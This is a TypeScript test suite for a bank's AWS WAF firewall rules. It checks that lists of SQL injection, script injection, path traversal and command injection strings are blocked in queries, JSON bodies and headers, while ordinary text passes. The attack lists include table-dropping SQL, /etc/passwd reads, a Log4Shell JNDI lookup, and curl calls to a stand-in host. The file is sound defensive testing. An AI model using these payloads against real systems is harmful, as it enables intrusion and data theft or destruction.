import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { asBody, asHeader, asQuery, bankFirewall } from './bank-firewall.ts';
import { firewallOf, type TemplateRule } from './firewall-of.ts';

/** Only rules that AWS decides as this machine does. */
const ownOnly = (rule: TemplateRule): TemplateRule | undefined =>
  'OverrideAction' in rule || String(rule['Name']).endsWith('Confirmed') ? undefined : rule;
const { template } = bankFirewall({ requestsPerFiveMinutes: 1_000_000 });
const { evaluate } = firewallOf(template, ownOnly);

const zones = {
  'one query argument': asQuery,
  'one string of a JSON body': (text: string) => asBody({ reference: text }),
  'a key of a JSON body': (text: string) => asBody({ [text]: 1 }),
  'the referer': (text: string) => asHeader('Referer', Buffer.from(text.replaceAll('\n', ' ')).toString('latin1')),
};

const attacks: Readonly<Record<string, readonly string[]>> = {
  SQL: [
    "x' OR 7=7 -- -",
    "x') and ('a'='a",
    '9 union all select null,null,version()',
    "9' UnIoN/**/SeLeCt 1,2,3#",
    '9%27%20or%201%3D1',
    "a'; drop table accounts; --",
    "a' || (select pg_sleep(9)) || '",
    '1 and extractvalue(1, concat(0x7e, version()))',
    "a'; waitfor delay '0:0:9'--",
    '1 order by 9--',
    "7'--",
    "ab' -- ",
    "' or name() = 'x",
    'select password from users where id=1',
  ],
  scripts: [
    '<script>f()</script>',
    '<ScRiPt src=//x.example></sCrIpT>',
    '"><img src=x onerror=f()>',
    "' onfocus=f() autofocus='",
    'javascript:f(1)',
    'j&#97;vascript&colon;f(1)',
    '%3Csvg%20onload%3Df()%3E',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    'document.cookie',
    "window['al'+'ert'](1)",
    '{{constructor.constructor("f()")()}}',
  ],
  paths: [
    '../../../etc/hosts',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2fetc%2fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '....//....//etc/passwd',
    '/etc/shadow',
    'file:///etc/passwd',
    'php://filter/convert.base64-encode/resource=index',
    'C:\\boot.ini',
    'a.txt%00.png',
  ],
  commands: [
    '; cat /etc/hosts',
    '| whoami',
    '&& curl http://x.example',
    'a`id`b',
    '$(sleep 9)',
    '() { :;}; /bin/bash -c id',
    '| ping -n 9 127.0.0.1',
    ';${IFS}id',
    '127.0.0.1 & ipconfig /all',
    '${jndi:ldap://x.example/a}',
    '| powershell -enc AAAA',
  ],
};

/** Bodies of headers differ: a line break would end the header. */
const harmless = [
  "O'Neil & sons; rent for November",
  'Drop off table 5 at 7pm',
  'Select committee, union dues - and 2 more',
  'Rent 5/6 + 7, flat B (2nd floor)',
  'Please select one from the list below.',
  '1950 or 1960, whichever is later',
  "The boys' trip -- or what is left of it",
  "He said 'yes' and 'no', then left",
  'Update your records: the table was sold',
  'Script for the school play, act 2',
  'Cat food; dog food; more of both',
  'M&S & more',
  'either/or, and/or',
  "Rock 'n' roll",
  '"Wood" and "Sign"',
  'Invoice #4711 = 12.50 EUR (net)',
  'Größe 5 < 6, passt',
  'Where the wild things are',
  'See https://example.com/a/b?c=d for details',
  'mail jo@example.com, tel. +49 30 1234567',
  'Caf\u00e9 \u2013 100 % arabica',
  'JavaScript: the good parts',
  "D'or, l'an 2000; c'est la vie...",
  "Côte d'Or - Dijon",
  'Dog & cat',
  'Dog/cat food',
  'Passport & ID',
  'Customer no; ID',
  'Anna & Vi; Tom & Ruby',
  'Echo Dot & case',
  'Rent (Nov); flat (B)',
  'Invoice 12; call me',
  'Nov 2026; with thanks',
  'Pizza (2) order by phone',
  'Rooms 4 (a) and 5',
  'Change/add a payee',
  'Java; Python; PHP',
  'Import (EU) duty, confirm (2 days)',
  'Please select 5 from the list, 2 or 3!',
  'Berlin --> Paris',
  'Eat & sleep',
  "L'Oréal l'eau",
  "L'Isère et l'île d'Oléron, d'été",
  'Books, toys etc. for the group',
  'Flights, hotel, etc., hosts gift',
  'Dr. Ord (MD)',
  'ELT (English) course',
];

/** What programs say of themselves. */
const userAgents = [
  'curl/8.14.1',
  'Wget/1.21.4',
  'python-requests/2.32.3',
  'okhttp/4.12.0',
  'Symfony HttpClient (Curl)',
  'aws-sdk-js/3.1141.0 ua/2.1 os/linux#6.1 lang/js md/nodejs#24.21.0 api/s3#3.1141.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15',
  'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36',
];

for (const [zone, put] of Object.entries(zones)) {
  describe(`rules of our own, in ${zone}`, () => {
    for (const [family, payloads] of Object.entries(attacks)) {
      it(`refuse ${family}`, () => {
        const missed = payloads.filter((text) => evaluate(put(text)).action !== 'block');
        assert.deepEqual(missed, []);
      });
    }

    it('let pass what people write', () => {
      const refused = harmless
        .map((text) => ({ text, ...evaluate(put(text)) }))
        .filter(({ action }) => action === 'block')
        .map(({ text, seen }) => `${seen.terminatingRule}: ${text}`);
      assert.deepEqual(refused, []);
    });
  });
}

describe('rules of our own', () => {
  it('let programs say who they are', () => {
    const refused = userAgents.filter((name) => evaluate(asHeader('User-Agent', name)).action !== 'allow');
    assert.deepEqual(refused, []);
  });

  it('look at a body that is no JSON as it stands', () => {
    const { action, seen } = evaluate(asBody("9' union all select null,null,version()--"));
    assert.deepEqual([action, seen.terminatingRule], ['block', 'SqlInBody']);
  });

  it('have patterns that AWS WAF takes, in no more sets than an account has room for', (test) => {
    const sets = Object.values(template.findResources('AWS::WAFv2::RegexPatternSet')).map(
      ({ Properties }): readonly string[] => Properties.RegularExpressionList,
    );
    assert.ok(sets.length >= 1 && sets.length <= 6, String(sets.length));
    for (const patterns of sets) assert.ok(patterns.length <= 10);
    const patterns = sets.flat();
    test.diagnostic(`${sets.length} sets, ${patterns.length} patterns, ${patterns.join('').length} characters`);
    assert.deepEqual(
      patterns.filter(({ length }) => length > 200),
      [],
    );
    // AWS refuses many branches, long counts and nested repetitions, and names no number.
    for (const pattern of patterns) {
      assert.ok(pattern.split('|').length <= 40, pattern);
      for (const [, most] of pattern.matchAll(/\{(?:\d*,)?(\d+)\}/g)) assert.ok(Number(most) <= 60, pattern);
    }
  });
});

describe("AWS's rules for values", () => {
  /** Without rules of our own that find injection by themselves. */
  const confirmed = firewallOf(template, (rule) =>
    /In(?:Query|Body|Header)$/.test(String(rule['Name'])) ? undefined : rule,
  );

  const attacked = {
    SqlConfirmed: "1' OR '1'='1' --",
    ScriptConfirmed: '<script>alert(1)</script>',
    PathConfirmed: '../../../etc/hosts',
  };

  for (const [place, put] of [
    ['a query argument', asQuery],
    ['a body', (text: string) => asBody({ text })],
  ] as const) {
    it(`refuse in ${place} what has a mark of the attack`, () => {
      for (const [rule, text] of Object.entries(attacked)) {
        assert.equal(confirmed.evaluate(put(text)).seen.terminatingRule, rule);
      }
    });

    it(`let pass in ${place} what only looks like one`, () => {
      const { action, seen } = confirmed.evaluate(put("7'--"));
      assert.equal(action, 'allow');
      assert.ok(seen.labels.some((label) => label.includes('sql-database')));
    });
  }
});
